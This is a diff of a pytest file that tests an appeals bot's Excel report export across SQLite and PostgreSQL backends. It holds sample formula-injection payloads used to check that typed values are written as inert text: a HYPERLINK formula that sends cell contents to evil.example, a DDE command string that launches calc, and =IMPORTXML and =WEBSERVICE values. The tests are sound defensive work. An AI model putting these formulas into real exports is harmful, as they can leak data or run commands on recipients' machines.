@@ -7,6 +7,7 @@ import threading
 import zipfile
 from dataclasses import dataclass
 from datetime import UTC, date, datetime, timedelta
+from pathlib import Path
 from typing import Any
 from xml.etree import ElementTree
 
@@ -21,11 +22,12 @@ from bot.views.my_appeals import status_label
 from bot.views.reports import appeal_columns, booking_columns, export_xlsx, inert, render_stats
 from handlers import official_commands as commands_module
 from i18n.core import PoI18n
+from storage.base import Repository
 from storage.models import Status
-from storage.reports import EVERYTHING
-from storage.sqlite.reports import SQLiteReportQueries
-from storage.sqlite.repository import SQLiteRepository
+from storage.reports import EVERYTHING, PeriodAppeal
+from tests.backends import NAMES, backend_for, beside
 from tests.conftest import ALMATY, OFFICIALS, Harness
+from tests.test_bookings import book
 from tests.test_e2e_appeal import NAME, name_phone_address, onboard
 from tests.test_storage import NOW, new_appeal
 
@@ -33,6 +35,9 @@ MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 # A citizen's text that Excel would run: a link that sends the neighbouring cells away.
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&X2&Y2,"Подробнее")'
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+# The store and the reports over it on each backend (the e2e tests on SQLite).
+pytestmark = pytest.mark.every_backend
 
 
 @pytest.mark.parametrize(
@@ -43,7 +48,7 @@ def test_parse_days(args: str | None, days: int | None) -> None:
     assert parse_days(args) == days
 
 
-async def seed(repo: SQLiteRepository) -> None:
+async def seed(repo: Repository) -> None:
     for i in range(4):
         await repo.create_appeal(
             new_appeal(f"r{i}", category="roads" if i < 3 else "health",
@@ -58,9 +63,9 @@ async def seed(repo: SQLiteRepository) -> None:
                           rating=4, answer_text="Сделано")  # fmt: skip
 
 
-async def test_stats_for_a_period(repo: SQLiteRepository, catalog: Catalog) -> None:
+async def test_stats_for_a_period(repo: Repository, catalog: Catalog) -> None:
     await seed(repo)
-    rows = await period_appeals(SQLiteReportQueries(repo.db), 30, NOW + timedelta(days=2))
+    rows = await period_appeals(beside("reports", repo), 30, NOW + timedelta(days=2))
     stats = compute_stats(rows, 30)
     assert stats.total == 4  # the 40-day-old one is outside
     assert dict(stats.by_category) == {"roads": 3, "health": 1}
@@ -92,10 +97,10 @@ def booking_headers(lang: str = "ru") -> dict[str, str]:
 
 
 async def test_export_is_a_spreadsheet_with_every_appeal(
-    repo: SQLiteRepository, catalog: Catalog
+    repo: Repository, catalog: Catalog
 ) -> None:
     await seed(repo)
-    rows = await period_appeals(SQLiteReportQueries(repo.db), 30, NOW + timedelta(days=2))
+    rows = await period_appeals(beside("reports", repo), 30, NOW + timedelta(days=2))
     i18n = PoI18n()
     with i18n.context(), i18n.use_locale("ru"):
         content = export_xlsx(rows, catalog, "ru", ALMATY, PERIOD)
@@ -211,7 +216,7 @@ def test_inert_makes_formula_starts_text(typed: str, written: str) -> None:
 
 @pytest.mark.parametrize("full", [True, False])
 async def test_export_writes_every_typed_value_as_inert_text(
-    repo: SQLiteRepository, catalog: Catalog, full: bool
+    repo: Repository, catalog: Catalog, full: bool
 ) -> None:
     """Every field a person typed, in both sheets, with contacts full or masked: strings,
     never formulas; our own dates and numbers stay real ones."""
@@ -225,7 +230,7 @@ async def test_export_writes_every_typed_value_as_inert_text(
         answer_text="-1+A1", answered_by_name="@Official", taken_by_name="+Taker",
     )  # fmt: skip
     await repo.update_fields(1, feedback="=IMPORTXML(1)", extension_reason="=WEBSERVICE(1)")
-    rows = await period_appeals(SQLiteReportQueries(repo.db), 30, NOW + timedelta(days=2))
+    rows = await period_appeals(beside("reports", repo), 30, NOW + timedelta(days=2))
     booking = {
         "reception": "akim", "session_day": "2026-11-25",
         "slot_start": "2026-11-25T05:00:00+00:00", "status": "booked",
@@ -325,7 +330,7 @@ async def test_export_over_http_carries_no_formula(harness: Harness) -> None:
 
 
 async def test_a_forward_to_another_body_is_labelled_as_the_card_labels_it(
-    repo: SQLiteRepository, catalog: Catalog
+    repo: Repository, catalog: Catalog
 ) -> None:
     """The workbook says "another body" for a department marked external, as the card and
     the citizen's notice do, and "the competent department" for the akimat's own."""
@@ -341,9 +346,34 @@ async def test_a_forward_to_another_body_is_labelled_as_the_card_labels_it(
         appeal, _ = await repo.create_appeal(new_appeal(key))
         await repo.transition(appeal.id, frozenset({Status.REGISTERED}), Status.FORWARDED,
                               "official:9", NOW, department=code)  # fmt: skip
-    rows = await period_appeals(SQLiteReportQueries(repo.db), 30, NOW + timedelta(days=2))
+    rows = await period_appeals(beside("reports", repo), 30, NOW + timedelta(days=2))
     i18n = PoI18n()
     with i18n.context(), i18n.use_locale("ru"):
         labels = [appeal_cells(r, with_both, "ru", ALMATY, full=False)["status"] for r in rows]
         expected = [status_label(Status.FORWARDED), status_label(Status.FORWARDED, external=True)]
     assert labels == expected and expected[0] != expected[1]
+
+
+async def test_both_backends_hand_the_views_the_same_rows(
+    postgres_missing: str | None, tmp_path: Path
+) -> None:
+    """The report views read the rows as SQLite stores them (storage/postgres/reports.py):
+    PostgreSQL's come out the same, column for column."""
+    if postgres_missing:
+        pytest.skip(postgres_missing)
+    found: dict[str, tuple[list[PeriodAppeal], list[dict[str, Any]]]] = {}
+    for name in NAMES:
+        async with backend_for(name, tmp_path) as backend:
+            repo = backend.repository(await backend.open())
+            await seed(repo)
+            await repo.update_fields(2, feedback="Жарық жоқ", solved="no", department="akim")
+            place = datetime(2026, 11, 25, 10, tzinfo=ALMATY)
+            await book(beside("bookings", repo), 1, place, draft_key="b")
+            queries = beside("reports", repo)
+            found[name] = (
+                await queries.period(NOW - timedelta(days=30), NOW + timedelta(days=2)),
+                await queries.bookings("2026-11-01", "2026-11-30"),
+            )
+    assert found["postgres"] == found["sqlite"]
+    appeals, bookings = found["sqlite"]
+    assert len(appeals) == 4 and len(bookings) == 1
